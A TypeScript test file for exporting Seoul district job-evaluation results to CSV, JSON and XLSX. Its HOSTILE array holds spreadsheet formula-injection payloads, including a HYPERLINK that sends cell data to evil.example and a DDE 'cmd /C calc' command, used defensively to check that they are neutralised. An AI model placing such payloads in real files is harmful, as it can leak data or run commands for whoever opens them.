import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  atPrecision,
  POINTS_PRECISION,
  indicatorColumns,
  neutraliseFormula,
  openDataResultsSchema,
  resultColumns,
  resultsCsv,
  resultsJson,
  resultsXlsx,
  XLSX_SHEETS,
} from '../../src/domain/publication/index.js';
import { evaluateSnapshot } from '../../src/domain/scoring/evaluate.js';
import { expectGolden, fixture, fixtureSnapshot } from './publication-fixture.js';

const { outcome, framework } = fixture();

function parseCsv(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relaxColumnCount: false }) as string[][];
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+3'];

/** The fixture with some district names replaced by formula-like text, as a hostile import could leave them. */
function hostileOutcome() {
  const snapshot = fixtureSnapshot();
  snapshot.units.forEach((u, i) => {
    if (i < HOSTILE.length) u.name = HOSTILE[i]!;
  });
  return evaluateSnapshot(snapshot);
}

describe('resultsCsv', () => {
  const csv = resultsCsv(outcome, framework, { demo: true });

  it('starts with a byte-order mark and ends lines with CRLF, for Excel', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '').includes('\n')).toBe(false);
  });

  it('round-trips: 25 districts in rank order, every number equal to the outcome at its declared precision', () => {
    const [header, ...rows] = parseCsv(csv);
    const columns = resultColumns(outcome, framework, true);
    expect(header).toEqual(columns.map((c) => c.header.ko));
    expect(rows).toHaveLength(25);
    rows.forEach((row, i) => {
      const unit = outcome.units[i]!;
      columns.forEach((c, j) => {
        const expected = c.value(unit, 'ko');
        const cell = row[j]!;
        if (expected === null) expect(cell).toBe('');
        else if (typeof expected === 'number') expect(Number(cell)).toBe(expected);
        else expect(cell).toBe(expected);
      });
    });
    expect(Number(rows[0]![3])).toBe(atPrecision(outcome.units[0]!.score, POINTS_PRECISION));
    expect(Math.abs(Number(rows[0]![3]) - outcome.units[0]!.score!)).toBeLessThanOrEqual(0.005);
    expect(rows[0]!.slice(0, 3)).toEqual(['1', '11215', '광진구']);
  });

  it('has Korean headers with codes, field scores, points per indicator and the demo label', () => {
    const header = parseCsv(csv)[0]!;
    expect(header.slice(0, 3)).toEqual(['순위', '코드', '자치구']);
    expect(header).toContain('S1 사회적경제기업 제품 공공구매 실적(점)');
    expect(header).toContain('J 양질의 일자리창출 활성화(점)');
    expect(header).toContain('시상금(원)');
    expect(header.filter((h) => /^[SJ]\d+ /.test(h))).toHaveLength(framework.indicators.length);
    expect(csv).toContain('데모 데이터');
  });

  it('writes English headers and tier names on request', () => {
    const [header, first] = parseCsv(resultsCsv(outcome, framework, { demo: false, lang: 'en' }));
    expect(header).toContain('S1 Public procurement from social-economy enterprises (points)');
    expect(first).toContain('Best district');
    expect(first).toContain('Evaluation result');
  });

  it('keeps a penalty numeric: a negative number is not text to neutralise', () => {
    const rows = parseCsv(csv);
    const penalty = rows[0]!.indexOf('감점(점)');
    const gangseo = rows.find((r) => r[1] === '11500')!;
    expect(gangseo[penalty]).toBe('-1');
  });

  it('neutralises formula injection in district names (= + - @ tab CR)', () => {
    const hostile = hostileOutcome();
    const text = resultsCsv(hostile, framework, { demo: true });
    const rows = parseCsv(text).slice(1);
    for (const name of HOSTILE) {
      const row = rows.find((r) => r[2]!.endsWith(name.slice(1)));
      expect(row, name).toBeDefined();
      expect(row![2]).toBe(`'${name}`);
    }
    for (const line of text.split('\r\n').slice(1)) {
      for (const cell of parseCsvLine(line)) expect(/^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell)).toBe(false);
    }
  });

  it('matches the golden file of the fixed seeded 2019 snapshot', () => {
    expectGolden('results-2019.csv', csv);
  });
});

function parseCsvLine(line: string): string[] {
  return line === '' ? [] : (parse(line) as string[][])[0]!;
}

describe('neutraliseFormula', () => {
  it('prefixes an apostrophe to text that a spreadsheet would run, and leaves other text alone', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('@A1')).toBe("'@A1");
    expect(neutraliseFormula('광진구')).toBe('광진구');
    expect(neutraliseFormula('1=1')).toBe('1=1');
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('resultsJson', () => {
  const json = JSON.parse(resultsJson(outcome, framework, { demo: true, title: '2019 서울 희망일자리 만들기 평가' })) as unknown;
  const data = openDataResultsSchema.parse(json);

  it('has the documented shape with year, title, demo flag and what it was generated from', () => {
    expect(data.format).toBe('hopejobs.results');
    expect(data.year).toBe(2019);
    expect(data.title).toBe('2019 서울 희망일자리 만들기 평가');
    expect(data.demo).toBe(true);
    expect(data.illustrative).toBe(true);
    expect(data.generatedFrom).toEqual({ snapshotHash: outcome.snapshotHash, engineInputHash: outcome.engineInputHash, engineVersion: outcome.engineVersion });
    expect(data.notices.map((n) => n.ko).join(' ')).toContain('데모 데이터');
  });

  it('carries every figure at full precision', () => {
    expect(data.units).toHaveLength(25);
    data.units.forEach((u, i) => {
      const o = outcome.units[i]!;
      expect(u.score).toBe(o.score);
      expect(u.fieldScores).toEqual(o.fieldScores);
      for (const ind of framework.indicators) {
        expect(u.indicators[ind.code]).toEqual({ raw: o.raw[ind.code], normalised: o.normalised[ind.code], points: o.points[ind.code], maxPoints: ind.points });
      }
    });
    expect(data.prizeTotal).toBe(outcome.prizeTotal);
    expect(data.framework.indicators.map((i) => i.code)).toEqual(framework.indicators.map((i) => i.code));
  });
});

describe('resultsXlsx', () => {
  async function load(buffer: Buffer) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    return wb;
  }

  it('opens with exceljs and has the four sheets in order', async () => {
    const wb = await load(await resultsXlsx(outcome, framework, { demo: true }));
    expect(wb.worksheets.map((w) => w.name)).toEqual([XLSX_SHEETS.results, XLSX_SHEETS.indicators, XLSX_SHEETS.dictionary, XLSX_SHEETS.about]);
  });

  it('has a frozen, styled header and numeric cells at two decimals in 결과, shown with two decimals', async () => {
    const wb = await load(await resultsXlsx(outcome, framework, { demo: true }));
    const ws = wb.getWorksheet(XLSX_SHEETS.results)!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.rowCount).toBe(26);
    const columns = resultColumns(outcome, framework, true);
    const scoreCol = columns.findIndex((c) => c.key === 'score') + 1;
    outcome.units.forEach((u, i) => {
      const cell = ws.getRow(i + 2).getCell(scoreCol);
      expect(cell.type).toBe(ExcelJS.ValueType.Number);
      expect(cell.value).toBe(atPrecision(u.score, POINTS_PRECISION));
    });
    expect(ws.getColumn(scoreCol).numFmt).toBe('#,##0.00');
    const s1 = columns.findIndex((c) => c.key === 'points.S1') + 1;
    expect(ws.getRow(2).getCell(s1).value).toBe(atPrecision(outcome.units[0]!.points['S1']!, POINTS_PRECISION));
  });

  it('has one row per district and indicator in 지표별 득점', async () => {
    const wb = await load(await resultsXlsx(outcome, framework, { demo: true }));
    const ws = wb.getWorksheet(XLSX_SHEETS.indicators)!;
    expect(ws.rowCount).toBe(1 + 25 * framework.indicators.length);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('lists every column of 결과 and 지표별 득점 in the data dictionary, and every indicator with points and method', async () => {
    const wb = await load(await resultsXlsx(outcome, framework, { demo: true }));
    const dictionary = wb.getWorksheet(XLSX_SHEETS.dictionary)!;
    const entries = new Set<string>();
    const indicatorRows = new Map<string, unknown[]>();
    dictionary.eachRow((row) => {
      const v = row.values as unknown[];
      entries.add(`${String(v[1])}|${String(v[2])}`);
      if (framework.indicators.some((i) => i.code === v[1])) indicatorRows.set(String(v[1]), v);
    });
    for (const sheet of [XLSX_SHEETS.results, XLSX_SHEETS.indicators]) {
      const header = wb.getWorksheet(sheet)!.getRow(1).values as unknown[];
      for (const h of header.slice(1)) expect(entries.has(`${sheet}|${String(h)}`), `${sheet}: ${String(h)}`).toBe(true);
    }
    expect(header(wb, XLSX_SHEETS.indicators)).toEqual(indicatorColumns().map((c) => c.header.ko));
    for (const ind of framework.indicators) {
      const row = indicatorRows.get(ind.code);
      expect(row, ind.code).toBeDefined();
      expect(row![2]).toBe(ind.name.ko);
      expect(row![3]).toBe(ind.name.en);
      expect(row![5]).toBe(ind.points);
      expect(String(row![8])).toContain('득점 = 환산 점수');
    }
  });

  it('says 데모 데이터 and the illustrative notice in 안내', async () => {
    const wb = await load(await resultsXlsx(outcome, framework, { demo: true }));
    const text = JSON.stringify(wb.getWorksheet(XLSX_SHEETS.about)!.getSheetValues());
    expect(text).toContain('데모 데이터');
    expect(text).toContain('공식 평가지표가 아닙니다');
    expect(text).toContain(outcome.snapshotHash);
    expect(text).toContain('공공누리');
  });

  it('neutralises formula injection in text cells and never writes a formula', async () => {
    const wb = await load(await resultsXlsx(hostileOutcome(), framework, { demo: true }));
    const ws = wb.getWorksheet(XLSX_SHEETS.results)!;
    const names: string[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) names.push(String(row.getCell(3).value));
    });
    // XML turns a carriage return into a line feed on reading; what matters is the leading apostrophe.
    for (const name of HOSTILE) expect(names).toContain(`'${name.replace('\r', '\n')}`);
    for (const sheet of wb.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (cell.type === ExcelJS.ValueType.String) expect(/^[=+\-@\t\r]/.test(String(cell.value)), String(cell.value)).toBe(false);
        }),
      );
    }
  });
});

function header(wb: ExcelJS.Workbook, sheet: string): string[] {
  return (wb.getWorksheet(sheet)!.getRow(1).values as unknown[]).slice(1).map(String);
}
